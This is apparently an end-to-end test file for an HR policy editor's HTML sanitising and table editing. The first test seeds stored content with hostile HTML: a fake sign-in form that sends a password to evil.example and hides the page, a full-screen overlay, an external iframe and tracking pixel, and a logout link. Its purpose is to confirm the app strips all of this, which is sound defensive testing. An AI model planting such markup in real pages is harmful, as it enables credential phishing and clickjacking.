import { afterAll, beforeAll, expect, test } from 'vitest';
import type { Page } from 'playwright-core';
import { expectAccessible } from './accessible.ts';
import { expectNoErrors } from './browser.ts';
import { ADMIN, startJourney, type Journey } from './journey.ts';

let journey: Journey;
let page: Page;
beforeAll(async () => {
  journey = await startJourney();
  page = await journey.signedIn(ADMIN.email, ADMIN.password);
});
afterAll(() => journey?.close());

/** As an earlier version kept it. */
const STORED = [
  '<h2>Hands</h2><p>Wash <b>them</b>.</p>',
  '<style>main{display:none}</style><form action="https://evil.example"><input name="password"><button>Sign in</button></form>',
  '<div style="position:fixed;inset:0;z-index:9999" class="overlay" id="root">over</div>',
  '<iframe src="https://evil.example"></iframe><svg><circle r="9"></circle></svg><img src="https://evil.example/pixel.gif">',
  '<a href="https://fine.example" rel="opener" target="_self">fine</a><a href="/api/users/logout">out</a>',
].join('');
const LEFT = 'style, form, input, button, iframe, svg, img, [style], [class], [id], [onclick]';

test('formatted text that was stored before shows its words and nothing else, on the page and in its editor', async () => {
  const { _id } = await journey.app.make('hrPolicies', { name: 'Hygiene' });
  await journey.app.engine.database.query(`update records."hrPolicies" set description = $1`, [STORED]);

  await page.goto(journey.at(`/app/hrPolicies/${_id}`));
  const shown = page.getByRole('heading', { name: 'Hands' }).locator('..');
  await shown.waitFor();

  expect(await shown.locator(LEFT).count()).toBe(0);
  const fine = shown.getByText('fine', { exact: true });
  expect(await fine.evaluate((link) => [link.getAttribute('rel'), link.getAttribute('target')])).toEqual([
    'noopener noreferrer',
    '_blank',
  ]);
  expect(await shown.getByText('out', { exact: true }).getAttribute('href')).toBeNull();

  await page.goto(journey.at(`/app/hrPolicies/${_id}/edit`));
  const editor = page.getByRole('textbox', { name: 'Policy' });
  await editor.getByText('Hands').waitFor();
  expect(await editor.locator(LEFT).count()).toBe(0);
  await editor.evaluate((element) => {
    element.insertAdjacentHTML('beforeend', '<p style="position:fixed" class="overlay">pasted</p>');
    element.dispatchEvent(new Event('input', { bubbles: true }));
  });
  await page.getByRole('button', { name: 'Save' }).first().click();
  await page.waitForURL((url) => !url.pathname.endsWith('/edit')); // the heading stands in the editor, too
  await page.getByRole('heading', { name: 'Hands' }).waitFor();

  const kept = (await journey.app.system().records.get('hrPolicies', _id)).description as string;
  expect(kept).toContain('<p>pasted</p>');
  expect(kept).not.toMatch(/style|evil|logout|class/);
  expectNoErrors(page);
});

test('a table is inserted, filled cell by cell, gains a row and loses a column, and is kept as it is shown', async () => {
  const { _id } = await journey.app.make('hrPolicies', { name: 'Shifts' });
  await page.goto(journey.at(`/app/hrPolicies/${_id}/edit`));
  const editor = page.getByRole('textbox', { name: 'Policy' });
  await editor.click();
  const table = async (item: string) => {
    await page.getByRole('button', { name: 'Table' }).click();
    await page.getByRole('menuitem', { name: item }).click();
  };
  await table('Insert table');
  for (const word of ['Unit', 'Starts', 'Ends', 'ICU', '7 am', '7 pm']) {
    await page.keyboard.type(word);
    await page.keyboard.press('Tab');
  }
  await page.keyboard.type('ER');
  await table('Add row below');
  await editor.getByRole('columnheader', { name: 'Starts' }).click();
  await table('Delete column');
  await expectAccessible(page);
  await page.getByRole('button', { name: 'Save' }).first().click();
  await page.waitForURL((url) => !url.pathname.endsWith('/edit'));

  await page.getByRole('cell', { name: '7 pm' }).waitFor();
  const kept = (await journey.app.system().records.get('hrPolicies', _id)).description as string;
  const cells = [...kept.matchAll(/<(t[hd])><p>(.*?)<\/p>/g)].map(([, tag, words]) => `${tag} ${words}`);
  expect(cells).toEqual(['th Unit', 'th Ends', 'td ICU', 'td 7 pm', 'td ER', 'td ', 'td ', 'td ']);
  expectNoErrors(page);
});
